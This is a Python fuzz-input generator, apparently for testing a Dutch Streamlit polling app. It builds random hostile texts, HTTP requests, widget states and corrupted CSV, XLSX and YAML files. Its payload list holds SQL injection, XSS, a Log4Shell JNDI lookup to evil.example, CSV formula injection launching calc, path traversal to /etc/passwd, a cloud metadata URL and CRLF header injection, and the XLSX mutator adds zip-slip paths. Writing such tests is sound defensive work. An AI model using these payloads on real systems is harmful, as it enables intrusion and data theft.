"""Makes hostile input by chance from a seed: texts, addresses, headers, frames and files; sends nothing and asserts nothing."""

# ruff: noqa: E501 - lists of hostile texts
from __future__ import annotations

import io
import json
import random
import zipfile
from collections.abc import Mapping
from typing import Any

from streamlit.proto.WidgetStates_pb2 import WidgetState

BAD = (
    "", " ", "\x00", "\x00" * 300, "\ud800", "a\udfffb", "\u202e\u2066\u200b", "\ufeff\u2028\u2029", "🏳️‍🌈" * 40, "Z̴̡̛a̸l̷g̶o̵" * 30, "é" * 600, "e\u0301" * 600,
    "'; DROP TABLE rounds; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "%s%n%x%d", "{0.__class__.__mro__}", "{naam!r:>999999}", "{}", "{", "}}",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]>", "<!--", "<?xml version='1.0'?>",
    "![x](http://evil.example/x)", "[x](javascript:alert(1))", "$\\unicode{x}$", ":material/home:", ":red[x]", "`" * 200, "*" * 3_000, "[" * 3_000,
    "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "../../../../etc/passwd", "..\\..\\windows", "file:///etc/passwd", "http://169.254.169.254/",
    "CON", "NUL.txt", "a" * 100_000, "9" * 5_001, "-" + "9" * 400, "1e400", "NaN", "inf", "-0", "0x10", "٣٤", "１２", "²", "½", "2026-02-30", "0000-00-00",
    "9999-12-31", "10000-01-01", "29-2-2027", "31-12-99999", "1-1-1", "true", "null", "None", "[object Object]", "voorbeeld", "ING-01-a", "FUN-1.nu",
    "?", "niet", "trekker", "samenpeil", "\r\nSet-Cookie: samenpeil=x", "\r\n\r\n<html>", "%0d%0aX: y", "%00", "%ff%fe", "%c0%ae%c0%ae/", "&#x3C;", "\\u003c",
    "Ⅷ", "ß", "İ", "ı", "ﬃ", "\u0130" * 50, "ا" * 300, "👩‍👩‍👧‍👦", "\u1160" * 20, "\U000e0041" * 20, "\u034f" * 20, "a\u0300" * 400,
)  # fmt: skip
METHODS = ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECTX", "get", "A" * 200)
PATHS = ("/", "/start", "/sessie", "/uit", "/nieuw", "/voorbeeld", "/invullen", "/peiling", "/uitkomsten", "/voorbereiden", "/afspraken", "/stemmen",
         "/bijeenkomst", "/over", "/poster/", "/bestand/", "/draaiboek/", "/agenda/", "/healthz", "/_stcore/health", "/_stcore/host-config",
         "/_stcore/upload_file/", "/_stcore/stream", "/media/", "/component/", "/static/", "/assets/", "/auth/login", "/_stcore/metrics")  # fmt: skip
HEADERS = ("Host", "Origin", "Cookie", "Content-Type", "X-Forwarded-Proto", "X-Forwarded-For", "X-Forwarded-Host", "Accept-Encoding", "Range", "If-None-Match",
           "If-Modified-Since", "Transfer-Encoding", "Content-Length", "Expect", "Upgrade", "Connection", "Referer", "User-Agent", "Authorization",
           "X-HTTP-Method-Override", "Forwarded", "X-Samenpeil-Browser")  # fmt: skip
CELLS = (
    "ronde",
    "datum",
    "uitgenodigd",
    "persoon",
    "hoek",
    "item",
    "antwoord",
    "2026",
    "2026-06-12",
    "14",
    "p01",
    "overheid",
    "ING-01-a",
    "4",
    "?",
)


class Hostile:
    """Everything from one seed, so that what broke can be done again."""

    def __init__(self, seed: int) -> None:
        self.chance = random.Random(seed)

    def text(self) -> str:
        """One text nobody types by accident."""
        one = self.chance.choice(BAD)
        how = self.chance.randrange(6)
        if how == 0:
            return one + self.chance.choice(BAD)
        if how == 1:
            return "".join(
                chr(self.chance.choice((self.chance.randrange(32, 127), self.chance.randrange(0x110000))))
                for _ in range(self.chance.randrange(40))
            )
        return f"Casus {one} bespreken" if how == 2 else one

    def utf8(self) -> str:
        """The same without half characters, as a frame or an address can carry it."""
        return self.text().encode("utf-8", "replace").decode()

    def quoted(self, text: str) -> str:
        """As it can stand in an address."""
        return "".join(f"%{byte:02x}" if byte < 33 or byte > 126 else chr(byte) for byte in text.encode("utf-8", "replace")[:2_000])

    def number(self) -> int:
        """A whole number far from what is asked."""
        return self.chance.choice((0, -1, 1, 2**31, 2**63, -(2**63), 10**30, 7, 999, -999))

    def like(self, annotation: str) -> Any:
        """A value of the type an act asks for, with something in it that no screen offers."""
        if "Mapping" in annotation:
            return {self.text(): self.number() for _ in range(self.chance.randrange(4))}
        if "Iterable" in annotation or "tuple" in annotation:
            return tuple(self.text() for _ in range(self.chance.randrange(4)))
        if "bool" in annotation:
            return self.chance.choice((True, False))
        if "int" in annotation:
            return self.chance.choice((None, self.number())) if "None" in annotation else self.number()
        return self.text()

    def bytes(self, most: int = 400) -> bytes:
        """Any bytes."""
        return self.chance.randbytes(self.chance.randrange(most))

    def changed(self, frame: bytes) -> bytes:
        """The same with a few bytes changed, cut or doubled."""
        data = bytearray(frame)
        for _ in range(self.chance.randint(1, 8)):
            place = self.chance.randrange(len(data) + 1)
            how = self.chance.randrange(4)
            if how == 0 and place < len(data):
                data[place] = self.chance.randrange(256)
            elif how == 1:
                del data[place : place + self.chance.randrange(30)]
            elif how == 2:
                data[place:place] = data[: self.chance.randrange(1, 60)]
            else:
                data[place:place] = self.bytes(8)
        return bytes(data)

    def widget(self, identity: str) -> WidgetState:
        """What a widget holds, of any type."""
        state = WidgetState(id=identity)
        how = self.chance.randrange(8)
        if how == 0:
            state.int_value = self.chance.choice((0, -1, 2**62, -(2**62)))
        elif how == 1:
            state.double_value = self.chance.choice((float("nan"), float("inf"), -1e308, 0.5))
        elif how == 2:
            state.bool_value = True
        elif how == 3:
            state.trigger_value = True
        elif how == 4:
            state.json_value = self.utf8()
        elif how == 5:
            state.string_array_value.data.extend(self.utf8() for _ in range(5))
        elif how == 6:
            state.bytes_value = self.bytes()
        else:
            state.string_value = self.utf8()
        return state

    def request(self) -> tuple[str, str, dict[str, str], bytes]:
        """(method, target, headers, body) of a request; everything fits in HTTP, most of it nowhere else."""
        plain = self.utf8()
        tail = self.quoted(plain)
        target = self.chance.choice(PATHS) + self.chance.choice(("", tail, "?" + tail, f"?peiling={tail}", "/" + tail, "ab12cd34/" + tail))
        given = {}
        for name in self.chance.sample(HEADERS, self.chance.randrange(4)):
            given[name] = "".join(letter for letter in self.text() if 32 <= ord(letter) < 256)[:3_000]
        body = self.chance.choice(
            (b"", self.bytes(), b"code=" + tail.encode(), json.dumps({"code": plain}).encode(), b"[" * 1_900, b"{" * 5_000)
        )
        return self.chance.choice(METHODS), target.replace(" ", "%20"), given, body

    def csv(self) -> bytes:
        """A file of answers that is none."""
        rows = [
            self.chance.choice((",", ";", "\t")).join(self._cell() for _ in range(self.chance.randrange(1, 9)))
            for _ in range(self.chance.randrange(1, 12))
        ]
        head = "ronde,datum,uitgenodigd,persoon,hoek,item,antwoord\n" if self.chance.random() < 0.7 else ""
        data = (head + "\n".join(rows)).encode("utf-8", "surrogatepass")
        return self.changed(data) if self.chance.random() < 0.5 else data

    def xlsx(self, good: bytes) -> bytes:
        """A workbook with parts changed, gone, added or twice."""
        if self.chance.random() < 0.3:
            return self.changed(good)
        found = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(found, "w", zipfile.ZIP_DEFLATED) as new:
            for name in old.namelist():
                how = self.chance.randrange(8)
                if how == 0:
                    continue
                new.writestr(name, self.changed(old.read(name)) if how in (1, 2) else old.read(name))
            if self.chance.random() < 0.2:
                new.writestr("../" + self.chance.choice(("a", "xl/worksheets/sheet1.xml")), self.bytes())
        return found.getvalue()

    def yaml(self, good: bytes) -> bytes:
        """A content file with things in it."""
        if self.chance.random() < 0.5:
            return self.changed(good)
        lines = good.split(b"\n")
        for _ in range(self.chance.randint(1, 4)):
            place = self.chance.randrange(len(lines))
            lines[place] = self.chance.choice((b"- ", b"", b"  ", b"a: ")) + self.text().encode("utf-8", "replace")[:4_000]
        return b"\n".join(lines)

    def _cell(self) -> str:
        return self.chance.choice(CELLS) if self.chance.random() < 0.6 else self.text()[:300]

    def fields(self, names: Mapping[str, Any]) -> dict[str, Any]:
        """Some of these fields with something else in them, of the same type."""
        return {
            name: self.like(type(value).__name__ if not isinstance(value, dict) else "Mapping")
            for name, value in names.items()
            if self.chance.random() < 0.5
        }
